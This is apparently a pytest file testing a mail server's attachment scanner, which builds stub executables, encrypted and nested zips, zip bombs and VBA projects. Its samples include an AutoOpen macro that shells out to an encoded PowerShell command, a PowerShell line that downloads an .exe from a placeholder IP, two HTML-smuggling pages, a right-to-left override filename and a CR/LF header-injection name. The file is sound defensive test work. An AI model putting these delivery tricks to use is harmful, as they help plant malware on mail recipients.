"""The attachment check on real mails: types by content, archives within limits, Office macros, dangerous files.

Every sample is built here from scratch: a minimal PE executable, zips (one of them really encrypted with the
traditional PKWARE cipher, which :mod:`zipfile` can decrypt but not write), tar.gz, and an Office VBA project — an
OLE compound file written by a small CFB writer below, with the ``dir`` stream and module compressed per MS-OVBA —
that olevba parses through its regular project path, not a heuristic.
"""

from __future__ import annotations

import asyncio
import bz2
import gzip
import io
import os
import struct
import tarfile
import time
import zipfile
import zlib
from email.message import EmailMessage
from typing import Any

import pytest

from smtp.checks import attachments as att
from smtp.checks.attachments import AttachmentCheck, inspect_attachments
from smtp.checks.base import CheckContext
from smtp.mime import Attachment, parse_mail
from tenants.platform.config import Config
from tenants.symbols import lookup

# --- samples ------------------------------------------------------------------------------------------------------


def pe_executable() -> bytes:
    """The smallest file libmagic calls a PE32 executable: MZ stub, PE header, optional header, one section."""
    dos = b"MZ" + b"\0" * 0x3A + struct.pack("<I", 0x40)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<H", 0x10B) + b"\0" * (0xE0 - 2)
    section = b".text\0\0\0" + b"\0" * 32
    return dos + coff + optional + section + b"\0" * 512


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def tar_gz_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _crc_update(crc: int, byte: int) -> int:
    """One step of the raw CRC-32 the PKWARE cipher keys on (zlib's crc32 without its pre/post inversion)."""
    return ~zlib.crc32(bytes([byte]), ~crc & 0xFFFFFFFF) & 0xFFFFFFFF


def zipcrypto_zip(name: str, data: bytes, password: bytes) -> bytes:
    """A zip whose one member is encrypted with the traditional PKWARE cipher (flag bit 0), stored uncompressed."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte: int) -> None:
        keys[0] = _crc_update(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = _crc_update(keys[2], keys[1] >> 24)

    def encrypt(plain: bytes) -> bytes:
        out = bytearray()
        for p in plain:
            temp = keys[2] | 2
            out.append(p ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
            update(p)
        return bytes(out)

    for p in password:
        update(p)
    crc = zlib.crc32(data)
    payload = encrypt(os.urandom(11) + bytes([crc >> 24])) + encrypt(data)
    fname = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x1, 0, 0, 0, crc, len(payload), len(data), len(fname), 0)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x1, 0, 0, 0, crc, len(payload), len(data),
                          len(fname), 0, 0, 0, 0, 0, 0)
    body = local + fname + payload
    directory = central + fname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(directory), len(body), 0)
    return body + directory + end


# A minimal compound file (CFB v3) writer: enough for a VBA project, every stream under the 4096-byte cutoff so all
# of them live in the mini stream.
_END, _FREE, _FATSECT, _NONE = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR, _MINI_SECTOR, _MINI_CUTOFF = 512, 64, 4096


def _chain(start: int, count: int) -> list[int]:
    return [start + i + 1 for i in range(count - 1)] + [_END] if count else []


def _blocks(size: int, block: int) -> int:
    return -(-size // block)


def ole_file(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file holding ``streams`` by path (``"VBA/dir"``); storages are made from the paths."""
    entries: list[dict[str, Any]] = [{"name": "Root Entry", "type": 5, "kids": [], "data": b""}]
    index = {"": 0}
    for path, data in streams.items():
        assert len(data) < _MINI_CUTOFF, "this writer keeps every stream in the mini stream"
        parts = path.split("/")
        parent = 0
        for depth in range(1, len(parts)):
            key = "/".join(parts[:depth])
            if key not in index:
                index[key] = len(entries)
                entries.append({"name": parts[depth - 1], "type": 1, "kids": [], "data": b""})
                entries[parent]["kids"].append(index[key])
            parent = index[key]
        entries.append({"name": parts[-1], "type": 2, "kids": [], "data": data})
        entries[parent]["kids"].append(len(entries) - 1)
    mini = bytearray()
    minifat: list[int] = []
    for e in entries:
        if e["type"] == 2:
            n = _blocks(len(e["data"]), _MINI_SECTOR)
            e["start"] = len(minifat) if n else _END
            minifat += _chain(len(minifat), n)
            mini += e["data"].ljust(n * _MINI_SECTOR, b"\0")
    n_dir = _blocks(len(entries) * 128, _SECTOR)
    n_minifat = max(1, _blocks(len(minifat) * 4, _SECTOR))
    n_mini = _blocks(len(mini), _SECTOR)
    dir_start, minifat_start = 1, 1 + n_dir
    mini_start = minifat_start + n_minifat
    fat = [_FATSECT] + _chain(dir_start, n_dir) + _chain(minifat_start, n_minifat) + _chain(mini_start, n_mini)
    assert len(fat) <= _SECTOR // 4
    entries[0].update(start=mini_start if n_mini else _END, size=len(mini))
    for e in entries:  # siblings as a chain of right links, in the CFB name order
        kids = sorted(e["kids"], key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper()))
        e["child"] = kids[0] if kids else _NONE
        for a, b in zip(kids, kids[1:], strict=False):
            entries[a]["right"] = b
    directory = bytearray()
    for e in entries:
        name = e["name"].encode("utf-16-le") + b"\0\0"
        directory += name.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sI8s8sIQ", len(name), e["type"], 1, _NONE, e.get("right", _NONE), e["child"], b"", 0, b"",
            b"", e.get("start", 0), e.get("size", len(e["data"])))
    header = (att.OLE_MAGIC + b"\0" * 16 + struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
              + struct.pack("<9I", 0, 1, dir_start, 0, _MINI_CUTOFF, minifat_start, n_minifat, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    return (header + struct.pack(f"<{len(fat)}I", *fat).ljust(_SECTOR, b"\xff")
            + bytes(directory).ljust(n_dir * _SECTOR, b"\0")
            + struct.pack(f"<{len(minifat)}I", *minifat).ljust(n_minifat * _SECTOR, b"\xff")
            + bytes(mini).ljust(n_mini * _SECTOR, b"\0"))


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA compression with literal tokens only: a valid container (Office itself would also use copy tokens)."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        body = bytearray()
        chunk = data[start:start + 4096]
        for i in range(0, len(chunk), 8):
            body += b"\x00" + chunk[i:i + 8]  # flag byte 0: eight literal bytes follow
        assert len(body) <= 4096, "keep each 4 KiB of source under ~3.6 KiB for literal-only chunks"
        out += struct.pack("<H", 0xB000 | (len(body) - 1)) + body  # compressed chunk, size - 3 incl. the header
    return bytes(out)


def _record(rid: int, payload: bytes) -> bytes:
    return struct.pack("<HI", rid, len(payload)) + payload


def vba_project(source: str, module: str = "Module1") -> bytes:
    """A vbaProject.bin (MS-OVBA): PROJECT stream, VBA/_VBA_PROJECT, VBA/dir and one standard module."""
    name, uname = module.encode("cp1252"), module.encode("utf-16-le")
    records = b"".join([
        _record(0x01, struct.pack("<I", 1)),  # PROJECTSYSKIND: 32-bit Windows
        _record(0x02, struct.pack("<I", 0x409)),  # PROJECTLCID
        _record(0x14, struct.pack("<I", 0x409)),  # PROJECTLCIDINVOKE
        _record(0x03, struct.pack("<H", 1252)),  # PROJECTCODEPAGE
        _record(0x04, b"VBAProject"),  # PROJECTNAME
        _record(0x05, b""), _record(0x40, b""),  # PROJECTDOCSTRING and its Unicode form
        _record(0x06, b""), _record(0x3D, b""),  # PROJECTHELPFILEPATH 1 and 2
        _record(0x07, struct.pack("<I", 0)),  # PROJECTHELPCONTEXT
        _record(0x08, struct.pack("<I", 0)),  # PROJECTLIBFLAGS
        struct.pack("<HIIH", 0x09, 4, 1, 0),  # PROJECTVERSION
        _record(0x0C, b""), _record(0x3C, b""),  # PROJECTCONSTANTS and its Unicode form
        _record(0x0F, struct.pack("<H", 1)),  # PROJECTMODULES: one module
        _record(0x13, struct.pack("<H", 0xFFFF)),  # PROJECTCOOKIE
        _record(0x19, name), _record(0x47, uname),  # MODULENAME and its Unicode form
        _record(0x1A, name), _record(0x32, uname),  # MODULESTREAMNAME and its Unicode form
        _record(0x1C, b""), _record(0x48, b""),  # MODULEDOCSTRING and its Unicode form
        _record(0x31, struct.pack("<I", 0)),  # MODULEOFFSET: the source starts the module stream
        _record(0x1E, struct.pack("<I", 0)),  # MODULEHELPCONTEXT
        _record(0x2C, struct.pack("<H", 0xFFFF)),  # MODULECOOKIE
        struct.pack("<HI", 0x21, 0),  # MODULETYPE: procedural
        struct.pack("<HI", 0x2B, 0),  # end of the module record
        struct.pack("<HI", 0x10, 0),  # end of the dir stream
    ])
    project = (f'ID="{{00000000-0000-0000-0000-000000000000}}"\r\nModule={module}\r\nName="VBAProject"\r\n'
               f'HelpContextID="0"\r\nVersionCompatible32="393222000"\r\n').encode("cp1252")
    code = f'Attribute VB_Name = "{module}"\r\n{source}'.encode("cp1252")
    return ole_file({
        "PROJECT": project,
        "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",  # version 0xFFFF: no p-code, compile from source
        "VBA/dir": ovba_compress(records),
        f"VBA/{module}": ovba_compress(code),
    })


CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?>'
                 b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')


def ooxml(kind: str, parts: dict[str, bytes]) -> bytes:
    """A Word (``word``) or Excel (``xl``) 2007+ package with the given extra parts."""
    main = {"word": "word/document.xml", "xl": "xl/workbook.xml"}[kind]
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>", main: b"<doc/>",
                   **parts})


AUTOOPEN_MACRO = 'Sub AutoOpen()\r\n    Shell "powershell -enc AAAA"\r\nEnd Sub\r\n'
PLAIN_MACRO = 'Function Double(x)\r\n    Double = x * 2\r\nEnd Function\r\n'

HTML_SMUGGLING = b"""<!DOCTYPE html><html><body><p>Your document is downloading...</p>
<script>
  var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==";
  var bytes = Uint8Array.from(atob(b64), function (c) { return c.charCodeAt(0); });
  var blob = new Blob([bytes], {type: "application/octet-stream"});
  if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "invoice.iso"); }
  else { var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "invoice.iso";
         document.body.appendChild(a); a.click(); }
</script></body></html>"""
HTML_DATA_URI_SMUGGLING = b"""<html><body><a id="d" download="scan.zip"
href="data:application/zip;base64,UEsDBBQAAAAIAAAAIQA="></a><script>document.getElementById("d").click();</script>
</body></html>"""
HTML_HARMLESS = b"""<html><head><title>Newsletter</title></head><body><h1>News</h1>
<script>document.write(new Date().getFullYear());</script></body></html>"""


# --- running the check --------------------------------------------------------------------------------------------

def make_mail(*attachments: tuple[str | None, bytes, str]) -> bytes:
    msg = EmailMessage()
    msg["From"] = "alice@sender.example"
    msg["To"] = "bob@acme.test"
    msg["Subject"] = "Documents"
    msg.set_content("Please see the attachments.\n")
    for filename, data, ctype in attachments:
        maintype, _, subtype = ctype.partition("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def check(*attachments: tuple[str | None, bytes, str]) -> CheckContext:
    ctx = CheckContext(cfg=Config(), client_ip="192.0.2.7", helo="mx.sender.example",
                       mail_from="alice@sender.example", rcpts=["bob@acme.test"],
                       mail=parse_mail(make_mail(*attachments)))
    asyncio.run(AttachmentCheck(ctx.cfg).run(ctx))
    return ctx


def found(ctx: CheckContext) -> dict[str, str]:
    assert len({f.symbol for f in ctx.findings}) == len(ctx.findings), "one finding per symbol"
    return {f.symbol: f.reason for f in ctx.findings}


OCTET = "application/octet-stream"


# --- executables and names ----------------------------------------------------------------------------------------

def test_executable_renamed_to_pdf_is_a_mismatch_and_dangerous() -> None:
    """The content decides: a PE file named report.pdf and declared application/pdf is still a program."""
    result = found(check(("report.pdf", pe_executable(), "application/pdf")))
    assert set(result) == {"ATTACH_DANGEROUS", "ATTACH_TYPE_MISMATCH"}
    assert result["ATTACH_DANGEROUS"] == "report.pdf: Windows executable"
    assert "named .pdf but is application/vnd.microsoft.portable-executable" in result["ATTACH_TYPE_MISMATCH"]


def test_executable_without_extension_but_declared_as_pdf_is_a_mismatch() -> None:
    result = found(check(("scan", pe_executable(), "application/pdf")))
    assert "declared application/pdf" in result["ATTACH_TYPE_MISMATCH"]
    assert "ATTACH_DANGEROUS" in result


@pytest.mark.parametrize("filename", ["invoice.pdf.exe", "invoice.pdf      .exe", "Scan.JPG.scr", "doc.docx.js"])
def test_double_extension(filename: str) -> None:
    data = pe_executable() if filename.endswith((".exe", ".scr")) else b"WScript.Echo('hi');\n"
    result = found(check((filename, data, OCTET)))
    assert "ATTACH_DOUBLE_EXT" in result and "ATTACH_DANGEROUS" in result


def test_right_to_left_override_name_is_a_double_extension() -> None:
    """``invoice\u202efdp.exe`` shows as invoice‮exe.pdf in a mail client."""
    result = found(check(("invoice\u202efdp.exe", pe_executable(), OCTET)))
    assert "right-to-left" in result["ATTACH_DOUBLE_EXT"]


def test_version_numbers_are_no_double_extension() -> None:
    result = found(check(("setup.v2.1.txt", b"release notes\n", "text/plain")))
    assert result == {}


@pytest.mark.parametrize(("filename", "data"), [
    ("run.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n"),
    ("run.jse", b"#@~^AAAAAA==\n"),
    ("run.vbs", b"CreateObject(\"WScript.Shell\").Run \"calc\"\n"),
    ("run.vbe", b"#@~^AAAAAA==\n"),
    ("run.wsf", b"<job><script language=\"VBScript\">MsgBox 1</script></job>\n"),
    ("run.hta", b"<html><script>alert(1)</script></html>\n"),
    ("run.ps1", b"Invoke-WebRequest http://203.0.113.9/x.exe\n"),
    ("run.bat", b"@echo off\r\nstart calc\r\n"),
    ("run.cmd", b"@echo off\r\nstart calc\r\n"),
    ("setup.msi", b"\0" * 64),
    ("tool.jar", b"PK\x05\x06" + b"\0" * 18),
    ("disk.img", b"\0" * 64),
    ("app.com", b"\xb4\x09\xcd\x21"),
    ("old.pif", b"\0" * 64),
    ("screensaver.scr", pe_executable()),
])
def test_dangerous_types_by_name(filename: str, data: bytes) -> None:
    result = found(check((filename, data, OCTET)))
    assert "ATTACH_DANGEROUS" in result
    assert result["ATTACH_DANGEROUS"].startswith(filename)


def test_shortcut_and_disk_image_are_dangerous_by_content() -> None:
    lnk = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 100
    iso = b"\0" * 32769 + b"CD001" + b"\0" * 3000
    result = found(check(("readme.txt", lnk, "text/plain"), ("photos.dat", iso, OCTET)))
    assert "readme.txt: Windows shortcut" in result["ATTACH_DANGEROUS"]
    assert "photos.dat: ISO disk image" in result["ATTACH_DANGEROUS"]


def test_java_archive_by_content() -> None:
    jar = zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})
    assert "tool.zip: Java archive" in found(check(("tool.zip", jar, "application/zip")))["ATTACH_DANGEROUS"]


# --- archives -----------------------------------------------------------------------------------------------------

def test_executable_nested_in_zips_names_its_path() -> None:
    inner = zip_of({"run.exe": pe_executable()})
    result = found(check(("docs.zip", zip_of({"readme.txt": b"hi\n", "inner.zip": inner}), "application/zip")))
    assert set(result) == {"ATTACH_DANGEROUS"}
    assert "docs.zip/inner.zip/run.exe: .exe file" in result["ATTACH_DANGEROUS"]
    assert "docs.zip/inner.zip/run.exe: Windows executable" in result["ATTACH_DANGEROUS"]


def test_big_inner_archive_is_read_whole() -> None:
    """Members are typed from their first MiB; an archive member is still read to its end (its directory is there)."""
    inner = zip_of({"pad.bin": os.urandom(2 * att.SNIFF_BYTES), "run.exe": pe_executable()}, zipfile.ZIP_STORED)
    result = found(check(("big.zip", zip_of({"inner.zip": inner}), "application/zip")))
    assert "big.zip/inner.zip/run.exe: Windows executable" in result["ATTACH_DANGEROUS"]


def test_renamed_executable_inside_zip_is_found_by_content() -> None:
    result = found(check(("photos.zip", zip_of({"holiday.jpg": pe_executable()}), "application/zip")))
    assert result["ATTACH_DANGEROUS"] == "photos.zip/holiday.jpg: Windows executable"
    assert "photos.zip/holiday.jpg: named .jpg" in result["ATTACH_TYPE_MISMATCH"]


def test_zip_appended_to_an_image_is_opened() -> None:
    """A JPEG with a zip glued to its end is both: zip tools open it from the central directory at the end."""
    jpeg = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 100
    result = found(check(("cat.jpg", jpeg + zip_of({"run.exe": pe_executable()}), "image/jpeg")))
    assert "cat.jpg/run.exe: Windows executable" in result["ATTACH_DANGEROUS"]


def test_tar_gz_with_javascript_inside() -> None:
    data = tar_gz_of({"invoice/readme.txt": b"see script\n", "invoice/open.js": b"WScript.Echo(1);\n"})
    result = found(check(("invoice.tar.gz", data, "application/gzip")))
    assert result == {"ATTACH_DANGEROUS": "invoice.tar.gz/invoice/open.js: .js file"}


def test_gzipped_executable_and_bzip2_script() -> None:
    result = found(check(("update.exe.gz", gzip.compress(pe_executable()), "application/gzip"),
                         ("run.vbs.bz2", bz2.compress(b"MsgBox 1\n"), "application/x-bzip2")))
    assert "update.exe.gz: .exe file" in result["ATTACH_DANGEROUS"]
    assert "update.exe.gz: Windows executable" in result["ATTACH_DANGEROUS"]
    assert "run.vbs.bz2: .vbs file" in result["ATTACH_DANGEROUS"]


def test_zip_with_too_many_members_hits_the_limit() -> None:
    many = zip_of({f"f{i}.txt": b"" for i in range(att.MAX_ARCHIVE_MEMBERS + 1)}, zipfile.ZIP_STORED)
    result = found(check(("many.zip", many, "application/zip")))
    assert set(result) == {"ARCHIVE_LIMIT"}
    assert f"more than {att.MAX_ARCHIVE_MEMBERS} files" in result["ARCHIVE_LIMIT"]


def test_zip_bomb_hits_the_size_limit_before_unpacking() -> None:
    """A small zip that declares more than the per-mail budget is stopped by its declared size, not unpacked."""
    bomb = zip_of({"zeros.bin": bytes(att.MAX_UNPACKED_BYTES + 1)})
    assert len(bomb) < 1024 * 1024
    started = time.monotonic()
    result = found(check(("bomb.zip", bomb, "application/zip")))
    assert set(result) == {"ARCHIVE_LIMIT"}
    assert "unpacks to more than" in result["ARCHIVE_LIMIT"]
    assert time.monotonic() - started < 5


def test_gzip_bomb_is_cut_off_at_the_budget() -> None:
    """gzip declares no trustworthy size: decompression itself stops one byte past the budget."""
    result = found(check(("zeros.bin.gz", gzip.compress(bytes(att.MAX_UNPACKED_BYTES + 1), 1), "application/gzip")))
    assert set(result) == {"ARCHIVE_LIMIT"}


def test_budget_is_per_mail_not_per_archive() -> None:
    half = zip_of({"zeros.bin": bytes(att.MAX_UNPACKED_BYTES // 2 + 1)})
    result = found(check(("a.zip", half, "application/zip"), ("b.zip", half, "application/zip")))
    assert "b.zip/zeros.bin: unpacks to more than" in result["ARCHIVE_LIMIT"]


def test_deep_nesting_hits_the_depth_limit() -> None:
    data = zip_of({"core.txt": b"x"})
    for level in range(att.MAX_ARCHIVE_DEPTH + 2):
        data = zip_of({f"level{level}.zip": data})
    result = found(check(("russian-doll.zip", data, "application/zip")))
    assert set(result) == {"ARCHIVE_LIMIT"}
    assert f"nested deeper than {att.MAX_ARCHIVE_DEPTH} levels" in result["ARCHIVE_LIMIT"]


def test_nesting_within_the_limit_is_fine() -> None:
    data = zip_of({"core.txt": b"x"})
    for level in range(att.MAX_ARCHIVE_DEPTH - 1):
        data = zip_of({f"level{level}.zip": data})
    assert found(check(("nested.zip", data, "application/zip"))) == {}


def test_encrypted_zip_member_is_flagged() -> None:
    """A real PKWARE-encrypted zip (checked: zipfile decrypts it with the password); its content cannot be seen."""
    data = zipcrypto_zip("statement.pdf", b"%PDF-1.4 secret\n", b"infected")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.infolist()[0].flag_bits & 0x1
        assert zf.read("statement.pdf", pwd=b"infected") == b"%PDF-1.4 secret\n"
    result = found(check(("statement.zip", data, "application/zip")))
    assert result == {"ARCHIVE_ENCRYPTED": "statement.zip/statement.pdf"}


def test_dangerous_name_inside_an_encrypted_zip_is_still_seen() -> None:
    result = found(check(("invoice.zip", zipcrypto_zip("invoice.pdf.exe", pe_executable(), b"1234"), OCTET)))
    assert set(result) == {"ARCHIVE_ENCRYPTED", "ATTACH_DANGEROUS", "ATTACH_DOUBLE_EXT"}


@pytest.mark.parametrize(("filename", "data"), [
    ("broken.zip", zip_of({"a.txt": b"hello " * 100})[:-40]),  # no end of central directory
    ("broken.zip", b"PK\x03\x04" + b"\xff" * 200),
    ("broken.tar.gz", tar_gz_of({"a.txt": b"hello"})[:30]),
    ("broken.bz2", b"BZh91AY&SY" + b"\0" * 40),
])
def test_corrupt_archive_is_a_finding_not_an_error(filename: str, data: bytes) -> None:
    result = found(check((filename, data, OCTET)))
    assert "ARCHIVE_CORRUPT" in result
    assert result["ARCHIVE_CORRUPT"].startswith(filename)


def test_zip_member_with_bad_crc_is_corrupt() -> None:
    data = bytearray(zip_of({"a.txt": b"hello world " * 10}, zipfile.ZIP_STORED))
    data[40] ^= 0xFF  # a byte of the stored member: the CRC no longer matches
    assert "broken.zip/a.txt" in found(check(("broken.zip", bytes(data), OCTET)))["ARCHIVE_CORRUPT"]


# --- Office macros ------------------------------------------------------------------------------------------------

def test_sample_vba_project_is_parsed_by_olevba_itself() -> None:
    """Guard for the samples: olevba finds the project structure and the module through the dir stream."""
    from oletools.olevba import VBA_Parser

    parser = VBA_Parser("vbaProject.bin", data=vba_project(AUTOOPEN_MACRO))
    assert parser.find_vba_projects() == [("", "PROJECT", "VBA/dir")]
    modules = list(parser.extract_macros())
    assert [(m[1], m[2]) for m in modules] == [("VBA/Module1", "Module1.bas")]
    assert "Shell" in modules[0][3]
    parser.close()


def test_docm_with_autoopen_macro() -> None:
    docm = ooxml("word", {"word/vbaProject.bin": vba_project(AUTOOPEN_MACRO)})
    result = found(check(("offer.docm", docm, "application/vnd.ms-word.document.macroEnabled.12")))
    assert set(result) == {"OFFICE_MACRO", "OFFICE_MACRO_SUSPICIOUS"}
    assert result["OFFICE_MACRO"] == "offer.docm/word/vbaProject.bin: VBA macros"
    assert "AutoOpen" in result["OFFICE_MACRO_SUSPICIOUS"] and "Shell" in result["OFFICE_MACRO_SUSPICIOUS"]


def test_docm_renamed_to_docx_still_shows_its_macros() -> None:
    docm = ooxml("word", {"word/vbaProject.bin": vba_project(AUTOOPEN_MACRO)})
    assert "OFFICE_MACRO_SUSPICIOUS" in found(check(("offer.docx", docm, OCTET)))


def test_legacy_doc_with_a_harmless_macro_is_only_a_macro() -> None:
    result = found(check(("calc.xls", vba_project(PLAIN_MACRO), "application/vnd.ms-excel")))
    assert result == {"OFFICE_MACRO": "calc.xls: VBA macros"}


def test_office_document_inside_a_zip() -> None:
    docm = ooxml("word", {"word/vbaProject.bin": vba_project(AUTOOPEN_MACRO)})
    result = found(check(("offer.zip", zip_of({"offer.docm": docm}), "application/zip")))
    assert "offer.zip/offer.docm/word/vbaProject.bin" in result["OFFICE_MACRO_SUSPICIOUS"]


def test_xlm_macro_sheet_in_a_workbook() -> None:
    xlsm = ooxml("xl", {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    result = found(check(("budget.xlsm", xlsm, OCTET)))
    assert result == {"OFFICE_MACRO": "budget.xlsm: XLM macro sheet xl/macrosheets/sheet1.xml"}


def test_document_without_macros_is_clean() -> None:
    docx = ooxml("word", {"word/styles.xml": b"<w:styles/>"})
    plain_ole = ole_file({"WordDocument": b"\0" * 200, "\x05SummaryInformation": b"\0" * 100})
    assert found(check(("letter.docx", docx, OCTET), ("old.doc", plain_ole, "application/msword"))) == {}


def test_encrypted_office_document_is_flagged() -> None:
    encrypted = ole_file({"EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 60, "EncryptedPackage": b"\0" * 200})
    assert found(check(("salary.xlsx", encrypted, OCTET))) == {
        "ARCHIVE_ENCRYPTED": "salary.xlsx: encrypted Office document"}


# --- HTML smuggling -----------------------------------------------------------------------------------------------

def test_html_smuggling_blob_is_dangerous() -> None:
    result = found(check(("invoice.html", HTML_SMUGGLING, "text/html")))
    assert result == {"ATTACH_DANGEROUS": "invoice.html: HTML smuggling (script builds a file to download)"}


def test_html_smuggling_data_uri_is_dangerous() -> None:
    assert "ATTACH_DANGEROUS" in found(check(("scan.htm", HTML_DATA_URI_SMUGGLING, OCTET)))


def test_html_smuggling_inside_a_zip() -> None:
    result = found(check(("docs.zip", zip_of({"view.html": HTML_SMUGGLING}), "application/zip")))
    assert "docs.zip/view.html: HTML smuggling" in result["ATTACH_DANGEROUS"]


def test_harmless_html_with_script_is_clean() -> None:
    assert found(check(("newsletter.html", HTML_HARMLESS, "text/html"))) == {}


# --- clean mail, facts, robustness --------------------------------------------------------------------------------

def test_ordinary_attachments_are_clean_and_listed() -> None:
    pdf = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
    jpeg = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 100
    archive = zip_of({"minutes.txt": b"Agreed.\n", "plan.pdf": pdf})
    ctx = check(("report.pdf", pdf, "application/pdf"), ("photo.jpg", jpeg, "image/jpeg"),
                ("notes.txt", b"Meeting at ten.\n", "text/plain"), ("minutes.zip", archive, "application/zip"),
                (None, b"unnamed bytes", OCTET))
    assert ctx.findings == []
    assert ctx.facts["attachments"] == [
        ("report.pdf", "application/pdf", len(pdf)),
        ("photo.jpg", "image/jpeg", len(jpeg)),
        ("notes.txt", "text/plain", len(b"Meeting at ten.\n")),
        ("minutes.zip", "application/zip", len(archive)),
        ("", "text/plain", len(b"unnamed bytes")),
    ]


def test_mail_without_attachments() -> None:
    ctx = check()
    assert ctx.findings == [] and ctx.facts["attachments"] == []


def test_inspection_does_not_block_the_event_loop() -> None:
    """libmagic, unpacking and olevba run in a worker thread: other sessions' coroutines keep running meanwhile."""
    heavy = gzip.compress(bytes(att.MAX_UNPACKED_BYTES // 2), 1)  # tens of milliseconds of decompression
    ctx = CheckContext(cfg=Config(), client_ip="192.0.2.7", helo="h", mail_from="a@b.example",
                       mail=parse_mail(make_mail(("zeros.bin.gz", heavy, "application/gzip"))))
    state = {"running": False, "ticks": 0}

    async def run_check() -> None:
        state["running"] = True
        await AttachmentCheck(ctx.cfg).run(ctx)
        state["running"] = False

    async def ticker() -> None:
        await asyncio.sleep(0)
        while state["running"]:
            state["ticks"] += 1
            await asyncio.sleep(0.001)

    async def main() -> None:
        await asyncio.gather(run_check(), ticker())

    asyncio.run(main())
    assert state["ticks"] > 0
    assert ctx.findings == [] and ctx.facts["attachments"][0][0] == "zeros.bin.gz"


@pytest.mark.parametrize("seed", range(5))
def test_garbage_never_raises(seed: int) -> None:
    """Truncated and bit-flipped archives and documents: findings at most, never an exception."""
    import random

    rng = random.Random(seed)
    samples = [zip_of({"a.exe": pe_executable(), "b.zip": zip_of({"c.txt": b"c"})}), tar_gz_of({"x.js": b"1"}),
               vba_project(AUTOOPEN_MACRO), ooxml("word", {"word/vbaProject.bin": vba_project(PLAIN_MACRO)}),
               gzip.compress(b"abc" * 1000), HTML_SMUGGLING]
    items = []
    for sample in samples:
        data = bytearray(sample[: rng.randrange(1, len(sample) + 1)])
        for _ in range(rng.randrange(0, 8)):
            if data:
                data[rng.randrange(len(data))] = rng.randrange(256)
        items.append(Attachment(f"sample{len(items)}.{rng.choice(['zip', 'doc', 'gz', 'bin', 'html'])}", OCTET,
                                bytes(data)))
    result = inspect_attachments(items)
    assert len(result.listing) == len(items)


def test_symbols_and_effects_are_shipped() -> None:
    for symbol in AttachmentCheck.symbols:
        assert lookup(symbol).description, symbol
    assert lookup("ATTACH_DANGEROUS").effect == "attachment"
    assert lookup("ATTACH_DOUBLE_EXT").effect == "attachment"
    assert lookup("OFFICE_MACRO").score == 3.0
    assert lookup("ARCHIVE_ENCRYPTED").score == 2.0 and lookup("ARCHIVE_LIMIT").score == 2.0


def test_names_from_archives_cannot_inject_lines_into_reasons() -> None:
    """A member name with CR/LF would otherwise reach log lines and headers that show findings."""
    result = found(check(("a.zip", zip_of({"run\r\nX-Injected: yes.exe": pe_executable()}), "application/zip")))
    assert "ATTACH_DANGEROUS" in result
    assert all(c not in reason for reason in result.values() for c in "\r\n")
